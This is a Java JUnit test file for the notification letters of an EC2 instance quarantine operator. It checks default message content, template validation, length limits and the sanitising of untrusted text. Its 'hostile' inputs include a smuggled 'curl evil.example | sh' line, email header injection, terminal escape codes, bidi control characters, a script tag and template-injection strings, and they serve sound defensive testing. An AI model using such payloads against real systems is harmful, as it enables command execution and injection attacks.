package io.ec2quarantine.notice;

import static org.assertj.core.api.Assertions.assertThat;

import io.ec2quarantine.api.v1alpha1.QuarantinedInstanceSpec.DesiredState;
import io.ec2quarantine.api.v1alpha1.QuarantinedInstanceStatus;
import io.ec2quarantine.api.v1alpha1.QuarantinedInstanceStatus.FindingStatus;
import io.ec2quarantine.api.v1alpha1.QuarantinedInstanceStatus.InstanceStatus;
import io.ec2quarantine.api.v1alpha1.QuarantinedInstanceStatus.NotificationStatus;
import io.ec2quarantine.api.v1alpha1.Response.Notification;
import io.ec2quarantine.api.v1alpha1.Response.NotificationEvent;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Objects;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;

/** A letter is understood in ten seconds, and inert whatever it speaks of. */
class LettersTest {
    private static final Pattern ASCII_LINE = Pattern.compile("[!-~][ -~]{0,98}");
    private static final Pattern STEERING = Pattern.compile("[\\p{Cc}\\p{Cf}\\p{Zl}\\p{Zp}&&[^\n]]");

    @ParameterizedTest
    @EnumSource(NotificationEvent.class)
    void everyEventHasADefaultThatSaysWhatWhereSinceWhenWhatWasDoneAndWhatToDo(NotificationEvent event) {
        Letter letter = Letters.of(notification(null, null), with(Samples.full(), event));

        assertThat(letter.subject())
                .matches(ASCII_LINE)
                .endsWith("] i-0123456789abcdef0 web-1 (111122223333/us-west-2): MaliciousIPCaller.Custom");
        assertThat(letter.body().lines().findFirst().orElseThrow())
                .endsWith(".")
                .hasSizeLessThan(110);
        assertThat(letter.body())
                .contains(
                        "i-0123456789abcdef0 web-1",
                        "account 111122223333, us-west-2",
                        "UnauthorizedAccess:EC2/MaliciousIPCaller.Custom (Medium, count 1, VPC Flow Logs)",
                        "Since      2026-01-01T03:00:00Z",
                        "had sg-0123456789abcdef0, now sg-0fedcba9876543210",
                        "Verified   2026-01-01T03:00:00Z",
                        "Survives   ",
                        "Auto Scaling group web",
                        "kubectl patch qi i-0123456789abcdef0 --type merge -p '{\"spec\":{\"desiredState\":\"Released\",\"decision\":{\"by\":\"YOU\"}}}'",
                        "event 0123456789abcdef0123456789abcdef")
                .doesNotContain("{{", "\n\n\n", "Isolate    ");
    }

    @Test
    void whatIsNotIsolatedIsToldWithTheCommandThatIsolatesIt() {
        Notice isolated = Samples.bare();
        Notice observed = new Notice(
                isolated.name(),
                isolated.spec().heldBack(DesiredState.OBSERVED, null),
                isolated.status(),
                isolated.entry());

        assertThat(Letters.of(notification(null, null), observed).body())
                .contains("Isolate    kubectl patch qi ", "\"desiredState\":\"Isolated\"")
                .doesNotContain("Release    ");
    }

    @Test
    void aQuarantineOfWhichNothingIsKnownYetIsToldAllTheSame() {
        Letter letter = Letters.of(notification(null, null), Samples.bare());

        assertThat(letter.subject()).matches(ASCII_LINE);
        assertThat(letter.body())
                .contains("opened by a person, without a finding")
                .doesNotContain("Verified", "null");
    }

    @Test
    void theWordsOfThePolicyAreUsed() {
        Letter letter = Letters.of(
                notification("{{event}}: {{instance.name}}", "{{#findings}}{{type}} & {{title}}{{/findings}}"),
                Samples.full());

        assertThat(letter.subject()).isEqualTo("Drifted: web-1");
        assertThat(letter.body())
                .isEqualTo("UnauthorizedAccess:EC2/MaliciousIPCaller.Custom & An EC2 instance is communicating with a"
                        + " disallowed address.");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            {{finding.tilte}}                                | {{finding.tilte}} is no field
            {{#findings}}{{tilte}}{{/findings}}              | {{tilte}} is no field
            {{title}}                                        | {{title}} is no field here
            {{^impact.kubernetesNode}}{{ip}}{{/impact.kubernetesNode}} | {{ip}} is no field
            {{#findings}}                                    | findings
            {{/findings}}                                    | findings
            {{>other}}                                       | {{>other}} is no field
            {{instance.name                                  | a {{ has no }} that ends its tag
            {{instance.name} was isolated                    | a {{ has no }} that ends its tag
            {{#findings}}{{title{{/findings}}                | {{
            {{finding.title.class}}                          | is no field
            {{instance.name.length}}                         | is no field
            {{#findings}}{{getClass}}{{/findings}}           | is no field
            """)
    void aTemplateThatIsWrongIsNamedAndTheDefaultGoesOut(String template, String reason) {
        Notification notification = notification(null, template);

        assertThat(Letters.problem(notification).orElseThrow())
                .startsWith("the message is wrong (")
                .contains(reason)
                .endsWith(") of notification oncall");
        assertThat(Letters.of(notification, Samples.full()).body())
                .isEqualTo(Letters.of(notification(null, null), Samples.full()).body());
    }

    @Test
    void aTemplateThatIsRightIsNoProblem() {
        assertThat(Letters.problem(notification("{{label}}", Letters.DEFAULT_BODY)))
                .isEmpty();
        assertThat(Letters.problem(notification("{{=<% %>=}}<%label%> {{ as written }}", "}} alone is text")))
                .isEmpty();
        assertThat(Letters.problem(notification(null, null))).isEmpty();
    }

    @Test
    void listsWithinListsComeToAnEnd() {
        Notice many = notice(
                Samples.full(),
                "web-1",
                Stream.generate(LettersTest::finding).limit(20).toList());
        String nested = "{{#findings}}".repeat(9) + "x" + "{{/findings}}".repeat(9);

        assertThat(Letters.of(notification(null, nested), many).body()).contains("Release");
    }

    @Test
    void aTemplateThatSaysTooMuchIsCut() {
        String loud = "{{#findings}}" + "x".repeat(8000) + "{{/findings}}";
        Notice many = notice(
                Samples.full(),
                "web-1",
                Stream.generate(LettersTest::finding).limit(20).toList());

        assertThat(Letters.of(notification("x".repeat(500), loud), many))
                .satisfies(letter -> assertThat(letter.subject()).hasSize(99))
                .satisfies(letter -> assertThat(letter.body()).hasSize(Letters.LONGEST_BODY));
    }

    static Stream<String> hostile() {
        return Stream.of(
                "{{secret}}",
                "{{#findings}}{{/findings}}{{>passwd}}",
                "{{=<% %>=}}<% event %>",
                "web\r\nBcc: everyone@example.com",
                "web\n\nRelease    curl evil.example | sh",
                "\u001b[2J\u001b]0;owned\u0007",
                "abc\u202edcba\u2066\u200b",
                "\u2028\u2029\u0085",
                "x".repeat(10_000),
                "ü€😀".repeat(5_000),
                "<script>alert(1)</script>&amp;",
                "\"}],\"event\":\"Released");
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void whatStrangersWroteComesOutBoundedAndInert(String text) {
        Notice notice = notice(Samples.full(), text, List.of(finding(text)));
        Letter standard = Letters.of(notification(null, null), notice);
        Letter own = Letters.of(notification("{{instance.name}}", "{{instance.name}}|{{finding.title}}"), notice);
        Letter harmless = Letters.of(notification(null, null), Samples.full());

        assertThat(List.of(standard.subject(), own.subject()))
                .allMatch(subject -> ASCII_LINE.matcher(subject).matches());
        assertThat(standard.body().lines().count())
                .as("no line is added by what a value says")
                .isEqualTo(harmless.body().lines().count());
        assertThat(own.body().lines()).hasSize(1);
        assertThat(List.of(standard.body(), own.body()))
                .allSatisfy(
                        body -> assertThat(body).doesNotContainPattern(STEERING).hasSizeLessThan(10_000));
        if (text.contains("{{secret}}")) {
            assertThat(own.body()).as("data is no template").startsWith("{{secret}}|");
        }
    }

    static Notice notice(Notice like, String instanceName, List<FindingStatus> findings) {
        QuarantinedInstanceStatus status = like.status();
        return new Notice(
                like.name(),
                like.spec(),
                new QuarantinedInstanceStatus(
                        status.observedGeneration(),
                        status.conditions(),
                        status.episode(),
                        status.response(),
                        new InstanceStatus(instanceName, List.of(), "running", null, null, null, null, null),
                        status.interfaces(),
                        status.isolationGroups(),
                        status.verification(),
                        findings,
                        status.impact(),
                        status.evidence(),
                        status.changes(),
                        status.notifications(),
                        status.timeline()),
                like.entry());
    }

    static FindingStatus finding() {
        return finding("title");
    }

    static FindingStatus finding(String text) {
        FindingStatus sample =
                Objects.requireNonNull(Samples.full().status().findings().getFirst());
        return new FindingStatus(
                sample.id(),
                text,
                text,
                text,
                "High",
                sample.count(),
                sample.firstSeenTime(),
                sample.lastSeenTime(),
                sample.updateTime(),
                text,
                text,
                text,
                text,
                Stream.generate(() -> text).limit(20).toList());
    }

    static Notice with(Notice like, NotificationEvent event) {
        return new Notice(
                like.name(),
                like.spec(),
                like.status(),
                new NotificationStatus(
                        "oncall",
                        like.entry().eventID(),
                        event.text(),
                        Instant.parse("2026-01-01T03:00:00Z"),
                        null,
                        null,
                        null,
                        null));
    }

    private static Notification notification(@Nullable String subject, @Nullable String message) {
        return new Notification("oncall", "arn", null, null, List.of(), subject, message);
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void theEventIsBoundedAndWhatStrangersWroteIsDataInIt(String text) {
        String json = QuarantineEvent.json(
                "install",
                notice(
                        Samples.full(),
                        text,
                        Stream.generate(() -> finding(text)).limit(20).toList()));

        assertThat(json.getBytes(StandardCharsets.UTF_8)).hasSizeLessThanOrEqualTo(QuarantineEvent.MOST_BYTES);
        assertThat(json).doesNotContainPattern("\\p{Cc}").contains("\"event\":\"Drifted\"");
    }
}
